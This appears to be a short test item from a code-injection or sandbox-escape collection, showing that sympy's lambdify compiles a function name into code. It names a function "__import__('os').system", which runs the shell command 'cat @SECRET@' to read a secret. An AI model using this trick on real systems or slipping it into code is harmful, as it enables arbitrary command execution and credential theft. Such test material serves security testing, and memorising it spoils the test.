# lambdify() compiles the names of functions.
# effect: run
# tree: scientific-more
import sympy
x = sympy.Symbol("x")
sympy.lambdify(x, sympy.Function("__import__('os').system")(x))("cat @SECRET@")
